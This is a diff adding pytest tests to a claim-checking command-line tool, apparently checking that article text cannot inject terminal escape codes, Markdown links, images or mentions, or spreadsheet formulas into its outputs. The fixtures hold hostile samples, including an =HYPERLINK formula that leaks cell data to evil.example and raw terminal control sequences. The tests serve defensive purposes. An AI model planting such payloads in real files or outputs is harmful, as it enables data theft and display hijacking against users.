@@ -101,3 +101,74 @@ def test_query_rows_stream_in_every_format(ingested):
     assert table[0].split() == ["n", "label", "empty"] and len(table) == 2502
     assert ingested("query", "select 1 as a where 0", "--csv").output == "a\n"
     assert ingested("query", "select 1 as a where 0", "--json").output == "[]\n"
+
+
+# --- item 8: article text cannot drive the terminal, a Markdown renderer or a spreadsheet --------------------------
+
+HOSTILE_A = """---
+source: =HYPERLINK("http://evil.example/?leak="&A1)
+published: 2025-08-16
+---
+Turnout in Ohio was 61 percent \x1b[2J\x1b]0;owned\x07on Tuesday, said [the office](http://evil.example) and @octocat.
+The minister attended the summit in Geneva ![x](http://evil.example/p.png) \x9b31m today.
+"""
+HOSTILE_B = """---
+source: Capital Wire
+published: 2025-08-17
+---
+Turnout in Ohio was 58 percent on Tuesday, said [the office](http://evil.example) and @octocat.
+The minister did not attend the summit in Geneva ![x](http://evil.example/p.png) today.
+"""
+
+
+@pytest.fixture
+def hostile(claimcheck, tmp_path):
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    (folder / "a.txt").write_text(HOSTILE_A, encoding="utf-8")
+    (folder / "b.txt").write_text(HOSTILE_B, encoding="utf-8")
+    assert claimcheck("ingest", folder).exit_code == 0
+    return claimcheck
+
+
+def assert_no_controls(text: str):
+    assert not any(ch in text for ch in "\x1b\x07\x9b\r"), repr(text)
+
+
+def test_terminal_escapes_never_reach_the_output(hostile, tmp_path):
+    stored = "".join(row["text"] for row in json.loads(hostile("claims", "--json").output))
+    assert "\\u009b" in hostile("claims", "--json").output or "\x1b" not in stored   # escaped in JSON
+    for args in (["check", "--no-nli"], ["check", "--no-nli", "--format", "markdown"],
+                 ["check", "--no-nli", "--format", "github"], ["claims"], ["findings"], ["claims", "--csv"],
+                 ["claims", "--json"], ["findings", "--nl"], ["check", "--no-nli", "--format", "json"],
+                 ["check", "--no-nli", "--format", "sarif"], ["check", "--no-nli", "--format", "junit"]):
+        result = hostile(*args)
+        assert result.exit_code in (0, 1), result.output
+        assert "61 percent" in result.output or "Turnout" in result.output or args[0] == "findings"
+        assert_no_controls(result.output)
+    for fmt in ("text", "markdown", "json"):
+        report = tmp_path / f"report.{fmt}"
+        hostile("check", "--no-nli", "--format", fmt, "--output", report)
+        assert_no_controls(report.read_text(encoding="utf-8"))
+
+
+def test_markdown_report_makes_no_links_images_or_mentions_from_article_text(hostile):
+    report = hostile("check", "--no-nli", "--format", "markdown").output
+    rows = [line for line in report.splitlines() if "Turnout" in line or "minister" in line]
+    assert rows
+    for row in rows:
+        assert "](" not in row.replace("\\](", "")     # no [text](url) or ![alt](url)
+        assert "@octocat" not in row
+    assert "\\[the office\\]\\(http" in report and "@\u2060octocat" in report
+
+
+def test_csv_cells_that_spreadsheets_would_run_are_guarded_unless_asked(hostile):
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(hostile("sources", "--csv").output)))
+    assert {row["source"] for row in rows} == {"Capital Wire", "'=HYPERLINK(\"http://evil.example/?leak=\"&A1)"}
+    raw = list(csv.DictReader(io.StringIO(hostile("sources", "--csv", "--csv-raw").output)))
+    assert "=HYPERLINK(\"http://evil.example/?leak=\"&A1)" in {row["source"] for row in raw}
+    numbers = list(csv.DictReader(io.StringIO(hostile("query", "select -5 as n, '-x' as t", "--csv").output)))
+    assert numbers == [{"n": "-5", "t": "'-x"}]
